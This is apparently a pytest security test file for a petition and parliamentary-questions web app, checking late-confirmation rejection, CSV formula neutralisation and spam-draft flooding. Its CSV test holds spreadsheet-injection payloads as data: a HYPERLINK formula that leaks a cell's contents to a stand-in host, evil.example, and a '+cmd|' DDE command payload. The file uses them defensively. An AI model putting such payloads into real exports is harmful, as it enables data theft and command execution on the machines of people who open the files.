"""Issue 11, data: what is counted, listed and exported, attacked through real sockets.

- A signature confirmed (the emailed link's POST) after its petition closed, was rejected or hidden: 409
  `petition_not_open`, every time, and the counts do not move.
- A petition title (or a question, a name) that is a spreadsheet formula comes out of every CSV neutralised.
- A flood of drafts (anyone can start a petition) appears in no public listing, and every listing is a bounded page.
"""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import time

import pytest

from conftest import HostileServer, hostile_server, open_petition, origin, wait_for_link

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def database(srv: HostileServer) -> sqlite3.Connection:
    connection = sqlite3.connect(srv.server.data_dir / "hemicycle.sqlite", timeout=30)
    connection.execute("PRAGMA busy_timeout=30000")
    return connection


@pytest.fixture(scope="module")
def srv():
    """As a parliament runs it (email confirmation), with no supporters needed (a petition goes from its creator's
    confirmation to moderation at once) and the scheduler every second."""
    with hostile_server("data", ("--signature-confirmation", "email", "--sponsors-required", "0",
                                 "--scheduler-interval-s", "1")) as server:
        yield server


@pytest.fixture(scope="module")
def moderator(srv):
    return srv.staff_client("petitions-moderator")


def figures(srv: HostileServer, moderator, petition: int) -> dict:
    """The staff view of a petition's signatures (counted, pending, held) and, while it is public, its public count."""
    answer = moderator.post("/api/v1/signatures/search", headers=origin(srv), json_body={"petition_id": petition})
    assert answer.status == 200, answer.text
    entry = next((p for p in answer.json()["preview"]["petitions"] if p["petition_id"] == petition), {})
    public = srv.client().get(f"/petitions/{petition}/count.json")
    return {"counted": entry.get("counted", 0), "pending": entry.get("pending", 0), "held": entry.get("held", 0),
            "public": public.json()["signature_count"] if public.status == 200 else None}


def end(srv: HostileServer, moderator, petition: int, ending: str) -> None:
    if ending == "close":
        # The deadline passes (the petition's closing time is moved to the past); the server's scheduler closes it.
        with database(srv) as db:
            db.execute("UPDATE petitions SET closing_at = 1 WHERE id = ?", (petition,))
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            answer = srv.client().get(f"/petitions/{petition}.json")
            if answer.status == 200 and answer.json()["data"]["attributes"]["state"] == "closed":
                return
            time.sleep(0.2)
        pytest.fail("the scheduler did not close the petition", pytrace=False)
    body = {"action": "reject", "code": "duplicate"} if ending == "reject" else {"action": "hide"}
    answer = moderator.post(f"/api/v1/petitions/{petition}/moderation", headers=origin(srv), json_body=body)
    assert answer.status == 200, answer.text


@pytest.mark.parametrize("ending", ["close", "reject", "hide"])
def test_a_signature_confirmed_after_its_petition_ended_counts_nothing(srv, moderator, ending):
    n = {"close": 1, "reject": 2, "hide": 3}[ending]
    petition = open_petition(srv, moderator, f"Repair the bridges of district {n}", n)
    signer = srv.client().from_address(f"127.0.{n}.2")
    answer = signer.post(f"/api/v1/petitions/{petition}/signatures", headers=origin(srv),
                         json_body={"name": "Early Signer", "email": f"early{n}@example.org"})
    assert answer.status == 202, answer.text
    assert signer.post(f"/confirm/{wait_for_link(srv, f'early{n}@example.org')}", headers=origin(srv), json_body={}).status == 200
    answer = signer.post(f"/api/v1/petitions/{petition}/signatures", headers=origin(srv),
                         json_body={"name": "Late Signer", "email": f"late{n}@example.org"})
    assert answer.status == 202, answer.text
    late = wait_for_link(srv, f"late{n}@example.org")
    end(srv, moderator, petition, ending)
    before = figures(srv, moderator, petition)
    assert before["counted"] == 2 and before["pending"] == 1, before  # the creator and the early signer; the late one
    mails = len(srv.mails())

    # The attack: confirm anyway, by the JSON API, twice, then by the page's form.
    for attempt in range(2):
        answer = signer.post(f"/confirm/{late}", headers=origin(srv), json_body={})
        assert answer.status == 409, f"attempt {attempt}: {answer.status} {answer.text}"
        assert answer.error_code == "petition_not_open", answer.text
    page = signer.get(f"/confirm/{late}")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert token, page.text
    answer = signer.post(f"/confirm/{late}", headers=origin(srv), form={"csrf_token": token.group(1)})
    assert answer.status == 409, answer.text
    assert "not counted" in answer.text, "the page says why"

    # Nothing changed: no count (staff view and public count), no mail.
    assert figures(srv, moderator, petition) == before
    time.sleep(1.5)  # a mailer turn
    assert len(srv.mails()) == mails


def assert_no_formula(text: str, where: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows, f"{where} is empty"
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{where}: a cell a spreadsheet would run: {cell!r}"
    return rows


def test_formulas_come_out_of_every_csv_neutralised(srv, moderator):
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    petition = open_petition(srv, moderator, title, 9)
    text = srv.client().get("/petitions.csv").text
    rows = assert_no_formula(text, "/petitions.csv")
    assert ["'" + title, f"{srv.origin}/petitions/{petition}", "open", "1"] in rows, rows
    assert '"=HYPERLINK' not in text

    # A question whose text, name and region start like formulas, published, then the sitting's exports.
    viewer = srv.client().from_address("127.0.9.3")
    assert viewer.get("/sittings/1").status == 200  # the participant cookie
    answer = viewer.post("/api/v1/sittings/1/questions", headers=origin(srv),
                         json_body={"text": "+cmd|' /C calc'!A0 will the minister answer?", "name": "@SUM(1+1)", "region": "-2+3"})
    assert answer.status == 201, answer.text
    question = answer.json()["id"]
    hearings = srv.staff_client("moderator")
    answer = hearings.post(f"/api/v1/questions/{question}/moderation", headers=origin(srv), json_body={"action": "approve"})
    assert answer.status == 200, answer.text
    rows = assert_no_formula(srv.client().get("/sittings/1/record.csv").text, "record.csv")
    assert any("'+cmd|' /C calc'!A0 will the minister answer?" in row and "'@SUM(1+1)" in row and "'-2+3" in row for row in rows), rows
    assert_no_formula(srv.client().get("/sittings/1/moderation-log.csv").text, "moderation-log.csv")


# ---------- a flood of drafts ----------

@pytest.fixture(scope="module")
def flood():
    with hostile_server("data-flood") as server:
        yield server


PUBLIC_PAGES = ["/", "/petitions.json", "/petitions.json?state=all&count=500&page=2", "/petitions.json?q=spam",
                "/petitions.json?state=open", "/petitions.csv", "/petitions.csv?q=spam", "/feeds/petitions.atom",
                "/feeds/thresholds.atom", "/feeds/responses.atom", "/api/v1/dashboard", "/dashboard"]


def test_a_flood_of_drafts_reaches_no_public_listing_and_pages_stay_bounded(flood):
    # Through the sockets: as many drafts as the server takes, each from its own address.
    created = 0
    for n in range(30):
        client = flood.client().from_address(f"127.1.{n}.1")
        answer = client.post("/api/v1/petitions", headers=origin(flood), json_body={
            "action": f"Spam draft number {n}", "background": "Spam.", "name": "Spam Mer", "email": f"spam{n}@example.org"})
        assert answer.status in (201, 429), answer.text  # a limit on starting petitions may stop some
        created += answer.status == 201
    assert created > 0
    # And what a distributed flood leaves behind, thousands more: pending drafts, and petitions awaiting moderation.
    with database(flood) as db:
        now = int(time.time() * 1000)
        db.executemany(
            "INSERT INTO petitions (action, background, additional_details, state, signature_count, creator_name, created_at,"
            " updated_at, response_threshold, debate_threshold, search_text) VALUES (?, 'Spam.', '', ?, 0, 'Spam Mer', ?, ?, 10000, 100000, ?)",
            [(f"Spam draft flood {n}", "sponsored" if n < 150 else "pending", now, now, f"spam draft flood {n} spam.  ")
             for n in range(3000)])

    for path in PUBLIC_PAGES:
        answer = flood.client().get(path)
        assert answer.status == 200, f"{path}: {answer.status}"
        assert "Spam draft" not in answer.text and "spam draft" not in answer.text, f"{path} lists a draft"

    listing = flood.client().get("/petitions.json?count=500").json()
    assert [entry["id"] for entry in listing["data"]] == [1], "the demo petition only (count is at most 50)"
    assert listing["links"]["next"] is None
    home = flood.client().get("/").text
    assert len(re.findall(r'data-petition-id="', home)) == 1
    assert len(list(csv.reader(io.StringIO(flood.client().get("/petitions.csv").text, newline="")))) == 2, "a header and the demo"
    for feed in ("/feeds/petitions.atom", "/feeds/thresholds.atom", "/feeds/responses.atom"):
        assert flood.client().get(feed).text.count("<entry>") <= 50

    # The staff queue holds 150 of them: it comes a page (at most 100) at a time.
    staff = flood.staff_client("petitions-moderator")
    first = staff.get("/api/v1/petitions/moderation-queue").json()
    assert len(first["petitions"]) == 100 and first["next"], first.get("next")
    second = staff.get(first["next"]).json()
    assert len(second["petitions"]) == 50 and second["next"] is None
    assert not {p["id"] for p in first["petitions"]} & {p["id"] for p in second["petitions"]}
    assert staff.get("/api/v1/petitions/moderation-queue?limit=100000").status == 422
